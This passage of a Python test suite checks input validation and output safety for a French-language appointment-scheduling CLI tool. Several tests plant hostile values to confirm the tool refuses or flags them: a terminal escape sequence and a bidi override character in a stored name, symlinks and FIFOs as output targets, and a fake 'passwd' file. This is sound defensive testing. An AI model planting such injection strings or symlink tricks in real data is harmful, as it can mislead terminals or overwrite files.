    st.dates(min_value=dt.date(1, 1, 1), max_value=dt.date(9999, 12, 31)).map(str),
    st.dates().map(lambda d: f"{d.day:02d}/{d.month:02d}/{d.year:04d}"),
    st.sampled_from(["0000-01-01", "9999-12-31", "2026-02-30", "10000-01-01", "aujourd'hui"]))


@PROPERTY
@given(template=st.sampled_from([
    ["agenda", "--week", "{}"], ["agenda", "--day", "{}"], ["slots", "--from", "{}"],
    ["report", "--from", "{}"], ["calls", "--day", "{}"], [*BOOK, "--at", "{} 14:00"],
    ["dropin", "--site", "centre", "--date", "{}", "--seen", "1", "--refused", "0"],
    ["report", "--month", "{}"], ["purge", "--before", "{}", "--dry-run"]]), day=DATES)
def test_any_date_typed_gets_an_answer(template: list[str], day: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        root = write_folder(Path(tmp) / "data")
        value = day[:7] if template[:2] == ["report", "--month"] else day
        result = CliRunner().invoke(cli, ["--data", str(root),
                                          *[a.replace("{}", value) for a in template]])
        assert isinstance(result.exception, SystemExit | None), repr(result.exception)
        assert result.exit_code in (0, 1, 2, 3), result.output
        assert "Erreur inattendue" not in result.output, (template, value, result.output)
        year = re.match(r"(\d{4,})-|\d\d/\d\d/(\d{4,})", value)
        if year and not 1990 <= int(year.group(1) or year.group(2)) <= 2100:
            assert result.exit_code == 2, (template, value, result.output)


# ---- issue 20 #16: holidays and time zone validated at load --------------------------------

@pytest.mark.parametrize("line, says, lists", [
    ("holidays: XX", "pays des jours fériés inconnu « XX »", "FR"),
    # « NC » is a subdivision in every holidays release from our lower bound (0.50) to the
    # newest; the school zones (« Zone A ») came later, « RE » went
    ('holidays: FR\nholidays_subdivision: "99"', "subdivision « 99 » inconnue", "NC"),
    ("timezone: Europe", "fuseau horaire inconnu « Europe »", "Europe/Paris"),
])
def test_team_settings_are_validated_at_load_with_their_line(run, folder: Path, line: str,
                                                            says: str, lists: str) -> None:
    team = folder / "catalogue" / "team.yaml"
    text = team.read_text(encoding="utf-8").replace("timezone: Europe/Paris\n", "")
    team.write_text(text + line + "\n" + ("" if "timezone" in line
                                          else "timezone: Europe/Paris\n"), encoding="utf-8")
    number = next(i for i, t in enumerate(team.read_text().splitlines(), 1)
                  if t.startswith(line.split(":")[0] if "subdivision" not in line
                                  else "holidays_subdivision"))
    for args in (["catalogue", "check"], ["slots"], ["check"], ["agenda"]):
        result = run(*args)
        assert result.exit_code == 1, result.output
        assert f"catalogue/team.yaml:{number}" in result.output + result.stderr
        assert says in result.output + result.stderr and lists in result.output + result.stderr
        assert "Erreur inattendue" not in result.output + result.stderr


# ---- issue 20 #17: outputs only to regular files, never hang -------------------------------

def _run_bounded(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(REPO), "MEDIATOOL_NOW": NOW}
    return subprocess.run([sys.executable, "-m", "mediatool", "--data", str(root), *args],
                          capture_output=True, text=True, env=env, timeout=60)


def _special(kind: str, path: Path, tmp_path: Path) -> None:
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "link to a device":
        path.symlink_to("/dev/zero")
    elif kind == "link to a file":
        target = tmp_path / "elsewhere.txt"
        target.write_text("précieux\n")
        path.symlink_to(target)
    elif kind == "device":
        try:
            os.mknod(path, 0o600 | stat_module.S_IFCHR, os.makedev(1, 3))  # like /dev/null
        except PermissionError:
            pytest.skip("creating a device needs root")


SPECIAL = ["fifo", "link to a device", "link to a file", "device"]


@pytest.mark.parametrize("kind", SPECIAL)
def test_report_out_refuses_special_files(folder: Path, tmp_path: Path, kind: str) -> None:
    out = tmp_path / "rapport.md"
    _special(kind, out, tmp_path)
    before = os.lstat(out)
    done = _run_bounded(folder, "report", "--month", "2026-11", "--out", str(out))
    assert done.returncode == 2, done.stderr
    assert "refusé" in done.stderr or "lien symbolique" in done.stderr
    assert "--out -" in done.stderr
    after = os.lstat(out)
    assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino)
    if kind == "link to a file":
        assert (tmp_path / "elsewhere.txt").read_text() == "précieux\n"


@pytest.mark.parametrize("kind", SPECIAL)
def test_export_ics_never_hangs_on_nor_follows_a_special_file(run, folder: Path,
                                                             tmp_path: Path, kind: str) -> None:
    _booked(run)
    out = tmp_path / "ics"
    out.mkdir()
    _special(kind, out / "camille.ics", tmp_path)
    started = time.perf_counter()
    done = _run_bounded(folder, "export-ics", "--out", str(out))
    assert time.perf_counter() - started < 30
    assert done.returncode == 2, done.stderr
    assert "camille.ics" in done.stderr and "Traceback" not in done.stderr
    if kind == "link to a file":
        assert (tmp_path / "elsewhere.txt").read_text() == "précieux\n"


def test_report_out_never_replaces_a_file_it_did_not_write(run, tmp_path: Path) -> None:
    system = tmp_path / "passwd"
    system.write_text("root:x:0:0\n")
    result = run("report", "--month", "2026-11", "--out", str(system))
    assert result.exit_code == 2 and "n'est pas un fichier de rapport" in result.stderr
    assert system.read_text() == "root:x:0:0\n"
    report = tmp_path / "rapport.md"
    for _ in range(2):  # its own report is replaced
        assert run("report", "--month", "2026-11", "--out", str(report)).exit_code == 0
    assert report.read_text(encoding="utf-8").startswith("# ")


def test_report_out_dash_is_the_standard_output(run) -> None:
    result = run("report", "--month", "2026-11", "--format", "markdown", "--out", "-")
    assert result.exit_code == 0 and result.output.startswith("# Service de test")
    assert not Path("-").exists()


# ---- issue 20 #18: one reading rule for record files ---------------------------------------

def test_misnamed_and_misplaced_record_files_are_reported(run, folder: Path) -> None:
    _booked(run)
    folder_ = folder / "records" / "appointments"
    good = folder_ / "2026-12.yaml"
    (folder_ / "2026-13.yaml").write_bytes(good.read_bytes())
    (folder_ / "2026-11.yml").write_bytes(good.read_bytes())
    good.rename(folder_ / "2026-11.yaml")  # the booking of 8 December, in November's file
    checked = run("check")
    assert checked.exit_code == 1
    for name in ("2026-13.yaml", "2026-11.yml"):
        assert f"records/appointments/{name}: fichier ignoré" in checked.output
    assert "records/appointments/2026-11.yaml:" in checked.output
    assert "mauvais mois" in checked.output and "2026-12.yaml" in checked.output
    # agenda and check agree: the misnamed files are read by no command
    agenda = run("agenda", "--week", "2026-12-07", "--format", "json")
    assert agenda.exit_code == 0 and "A-" not in agenda.output


def test_control_characters_in_stored_text_are_warnings_of_check(run, folder: Path) -> None:
    """Escapes typed into a double-quoted value (no command writes them) are named, with
    the field and the character, warm cache or not; nothing else is refused."""
    _booked(run)
    path = folder / "records" / "appointments" / "2026-12.yaml"
    text = path.read_text(encoding="utf-8")
    person = re.search(r"^person: (.*)$", text, re.M)
    assert person
    path.write_text(text.replace(person.group(0), 'person: "Na\\e]0;PWNED\\adia"'),
                    encoding="utf-8")
    for _ in range(2):  # the second answer comes from the cache
        checked = run("check")
        assert checked.exit_code == 0, checked.output
        assert "caractère de contrôle ou invisible (U+001B) dans « person »" in checked.output
    assert "(U+001B) dans « person »" in run("check", "--no-cache").output
    plain = run("agenda", "--week", "2026-12-07", "--format", "json")
    assert plain.exit_code == 0 and "PWNED" in plain.output  # read as recorded


def test_check_fits_the_terminal_and_keeps_one_problem_a_line_in_a_pipe(
        run, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _booked(run)
    path = folder / "records" / "appointments" / "2026-12.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("person: Alice A.", 'person: "Alice\\u202eA."') + "x" * 150
                    + ": y\n", encoding="utf-8")  # a long warning and a long quoted line
    piped = run("check").output.splitlines()
    assert any(len(line) > 80 for line in piped)
    warning = next(line for line in piped if "U+202E" in line)
    assert warning.endswith("guillemets doubles)")  # whole, on one line, for grep
    monkeypatch.setenv("COLUMNS", "81")  # a terminal of 81 columns: 80 used
    shown = run("check").output.splitlines()
    assert shown and all(len(line) <= 80 for line in shown), shown
    assert not any(line.lstrip().startswith((":", "»")) for line in shown)
    assert " ".join(" ".join(shown).split()).count("U+202E") == 1


def test_a_future_review_date_is_a_warning_not_a_stop(run, folder: Path) -> None:
    procedures = folder / "catalogue" / "procedures.yaml"
    procedures.write_text(procedures.read_text(encoding="utf-8").replace(
        "reviewed: 2026-11-01", "reviewed: 2027-06-01", 1), encoding="utf-8")
    checked = run("catalogue", "check")
    assert "avertissement : date de vérification dans le futur" in checked.output
    assert checked.exit_code == 0
    assert run("slots", "--days", "2").exit_code == 0


# ---- issue 20: operating-system errors in French ------------------------------------------

def test_an_os_error_reaches_the_user_in_french(run, folder: Path) -> None:
    month = folder / "records" / "appointments" / "2026-12.yaml"
    month.mkdir(parents=True)  # a folder where the month file should be
    result = run(*BOOK, "--at", "2026-12-08 14:00")
    assert result.exit_code != 0
    assert "Is a directory" not in result.stderr and "Erreur" in result.stderr
    assert "Erreur inattendue" not in result.stderr


@pytest.mark.parametrize("number, french", [(28, "disque plein"), (13, "permission refusée"),
                                            (21, "c'est un dossier"), (30, "lecture seule")])
def test_the_boundary_speaks_french_for_os_errors(run, monkeypatch, number: int,
                                                  french: str) -> None:
    import mediatool.services.booking as booking

    def fail(*_args: Any, **_kwargs: Any) -> None:
        raise OSError(number, os.strerror(number), "records/x.yaml")

    monkeypatch.setattr(booking, "book", fail)
    result = run(*BOOK, "--at", "2026-12-08 14:00")
    assert result.exit_code == 1
    assert french in result.stderr and os.strerror(number) not in result.stderr
    assert "--repair" not in result.stderr or "n'y peut rien" in result.stderr


def test_a_closure_ending_years_ahead_is_a_warning(run, folder: Path) -> None:
    team = folder / "catalogue" / "team.yaml"
    team.write_text(team.read_text(encoding="utf-8").replace(
        "{start: 2026-12-24, end: 2027-01-01}", "{start: 2026-12-24, end: 2099-12-31}"),
        encoding="utf-8")
    checked = run("catalogue", "check")
    assert checked.exit_code == 0, checked.output
    assert "avertissement : période qui finit le 2099-12-31" in checked.output
    assert run("slots", "--days", "2").exit_code == 0


@settings(max_examples=int(os.environ.get("HOSTILE_EXAMPLES", "20")), deadline=None,
          derandomize=not os.environ.get("HOSTILE_EXPLORE"))
@given(kind=st.sampled_from(SPECIAL if os.geteuid() == 0 else SPECIAL[:3]), name=st.sampled_from(["rapport.md", "r.csv", "x.json",
                                                            "coop.xlsx", "camille.ics"]),
       command=st.sampled_from(["report", "export coop", "export-ics"]))
def test_no_output_ever_goes_through_a_special_file(kind: str, name: str, command: str) -> None:
    import signal

    def hung(*_args: Any) -> None:
        raise AssertionError(f"mediatool {command} hung on a {kind}")

    with tempfile.TemporaryDirectory() as tmp:
        tmp_path = Path(tmp)
        root = write_folder(tmp_path / "data")
        out = tmp_path / "out"
        out.mkdir()
        _special(kind, out / name, tmp_path)
        before = os.lstat(out / name)
        target = str(out) if command == "export-ics" else str(out / name)
        args = {"report": ["report", "--month", "2026-11", "--out", target],
                "export coop": ["export", "coop", "--month", "2026-11", "--out", target],
                "export-ics": ["export-ics", "--out", target]}[command]
        previous = signal.signal(signal.SIGALRM, hung)
        signal.alarm(20)
        try:
            result = CliRunner().invoke(cli, ["--data", str(root), *args])
        finally:
            signal.alarm(0)
            signal.signal(signal.SIGALRM, previous)
        assert isinstance(result.exception, SystemExit | None), repr(result.exception)
        assert "Erreur inattendue" not in result.output
        after = os.lstat(out / name)
        assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino)
        if result.exit_code == 0:  # a calendar of another name, or a format refused first
            assert command == "export-ics" and name != "camille.ics"
        if kind == "link to a file":
            assert (tmp_path / "elsewhere.txt").read_text() == "précieux\n"
